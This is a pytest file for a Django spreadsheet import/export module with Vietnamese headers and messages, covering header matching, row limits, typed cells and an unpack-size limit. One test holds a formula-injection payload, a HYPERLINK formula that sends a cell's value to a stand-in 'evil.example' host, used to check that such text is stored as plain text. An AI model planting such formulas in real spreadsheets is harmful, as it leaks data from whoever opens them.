import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from ntm.core.spreadsheets import (
    ImportResult,
    SpreadsheetError,
    XlsxFileField,
    data_rows,
    open_workbook,
)

COLUMNS = [("code", "Mã hộ", True), ("name", "Họ tên chủ hộ", False)]


def _workbook(rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def test_data_rows_match_headers_without_diacritics_and_skip_empty_rows():
    sheet = open_workbook(
        _workbook(
            [["MA HO (*)", "ho ten chu ho"], ["A1", "An"], [None, ""], ["A2", None]]
        )
    ).active

    assert data_rows(sheet, COLUMNS, max_rows=10) == [
        (2, {"code": "A1", "name": "An"}),
        (4, {"code": "A2", "name": None}),
    ]


def test_data_rows_names_missing_required_columns():
    sheet = open_workbook(_workbook([["Họ tên chủ hộ"], ["An"]])).active

    with pytest.raises(SpreadsheetError, match="Thiếu cột bắt buộc: Mã hộ"):
        data_rows(sheet, COLUMNS, max_rows=10)


def test_data_rows_refuses_too_many_rows_and_empty_files():
    sheet = open_workbook(_workbook([["Mã hộ"], ["A"], ["B"], ["C"]])).active
    empty = open_workbook(_workbook([["Mã hộ"]])).active

    with pytest.raises(SpreadsheetError, match="quá 2 dòng"):
        data_rows(sheet, COLUMNS, max_rows=2)
    with pytest.raises(SpreadsheetError, match="không có dòng dữ liệu"):
        data_rows(empty, COLUMNS, max_rows=2)


def test_open_workbook_refuses_what_is_not_xlsx():
    with pytest.raises(SpreadsheetError, match="không phải là tệp Excel"):
        open_workbook(io.BytesIO(b"ma_ho,ten\nA1,An\n"))


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("ho.csv", b"a,b", "đuôi .xlsx"),
        ("ho.xlsx", b"not a zip", "không phải là tệp Excel"),
    ],
)
def test_xlsx_field_refuses_wrong_files(name, content, message):
    with pytest.raises(Exception, match=message):
        XlsxFileField().clean(SimpleUploadedFile(name, content))


def test_xlsx_field_accepts_a_workbook():
    upload = SimpleUploadedFile("ho.xlsx", _workbook([["Mã hộ"], ["A"]]).read())

    assert XlsxFileField().clean(upload) is upload


def test_import_result_says_what_was_saved_in_vietnamese():
    result = ImportResult(created=3, updated=2, unchanged=1)

    assert result.message == ("Đã nhập 6 dòng: 3 mới, 2 cập nhật, 1 không đổi.")


# -- the framework: sheets, typed cells, one yes/no vocabulary ---------------
import datetime  # noqa: E402
from decimal import Decimal  # noqa: E402

from openpyxl import load_workbook  # noqa: E402

from ntm.core.spreadsheets import (  # noqa: E402
    Column,
    ImportRefused,
    Kind,
    Sheet,
    build_workbook,
    read_rows,
    refuse_bad_rows,
)

SHEET = Sheet(
    "Hộ",
    [
        Column("code", "Mã", required=True),
        Column("members", "Số người", kind=Kind.INTEGER),
        Column("fibre", "Cáp quang", kind=Kind.YES_NO),
        Column("on", "Ngày", kind=Kind.DATE),
        Column("share", "Tỷ lệ", kind=Kind.PERCENT),
        Column("name", "Tên"),
    ],
)


def _upload(content):
    return SimpleUploadedFile("a.xlsx", content)


def test_build_workbook_stores_numbers_and_dates_as_such_under_a_frozen_header():
    content = build_workbook(
        (SHEET, [["A1", 8250, True, datetime.date(2025, 7, 1), 83.58, "An"]])
    )

    sheet = load_workbook(io.BytesIO(content))["Hộ"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == [
        "Mã (*)",
        "Số người",
        "Cáp quang",
        "Ngày",
        "Tỷ lệ",
        "Tên",
    ]
    members, fibre, day, share = sheet["B2"], sheet["C2"], sheet["D2"], sheet["E2"]
    assert (members.value, members.data_type, members.number_format) == (
        8250,
        "n",
        "#,##0",
    )
    assert fibre.value == "có"
    assert day.value == datetime.datetime(2025, 7, 1)
    assert day.number_format == "DD/MM/YYYY"
    assert share.value == pytest.approx(0.8358)
    assert share.number_format == "0.00%"


def test_build_workbook_writes_formula_like_text_as_text():
    evil = '=HYPERLINK("http://evil.example/?d="&F2,"x")'

    content = build_workbook((SHEET, [["A1", None, None, None, None, evil]]))

    cell = load_workbook(io.BytesIO(content))["Hộ"]["F2"]
    assert (cell.value, cell.data_type) == (evil, "s")


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("có", True),
        ("Có", True),
        ("x", True),
        (1, True),
        ("yes", True),
        ("không", False),
        ("khong", False),
        (0, False),
        ("", False),
        (None, False),
    ],
)
def test_yes_no_vocabulary_and_blank_rule(word, expected):
    content = build_workbook((SHEET, [["A1", None, word, None, None, None]]))

    [row] = read_rows(_upload(content), SHEET)

    assert row.yes_no("fibre") is expected
    assert row.messages == []


def test_row_readings_report_every_bad_cell_of_a_row():
    content = build_workbook(
        (SHEET, [["A1", "nhiều", "có lẽ", "31/02/2025", None, None]])
    )
    [row] = read_rows(_upload(content), SHEET)

    assert row.integer("members", 1, 50) is None
    assert row.yes_no("fibre") is None
    assert row.date("on") is None
    with pytest.raises(ImportRefused) as refused:
        refuse_bad_rows([row])
    assert [error.row for error in refused.value.errors] == [2]
    assert len(refused.value.errors[0].messages) == 3


def test_row_reads_numbers_written_the_vietnamese_way():
    content = build_workbook((SHEET, [["A1", "1.250", None, None, None, None]]))
    [row] = read_rows(_upload(content), SHEET)

    assert row.integer("members", 0, 10_000) == 1250
    row.raw["members"] = "15,85"
    assert row.decimal("members", Decimal(0), Decimal(90)) == Decimal("15.850000")


def test_read_rows_refuses_a_package_that_unpacks_over_the_limit(settings):
    settings.SPREADSHEET_MAX_UNPACKED_BYTES = 1000
    content = build_workbook((SHEET, [["A1"] + [None] * 5] * 50))

    with pytest.raises(SpreadsheetError, match="quá nhiều dữ liệu"):
        read_rows(_upload(content), SHEET)
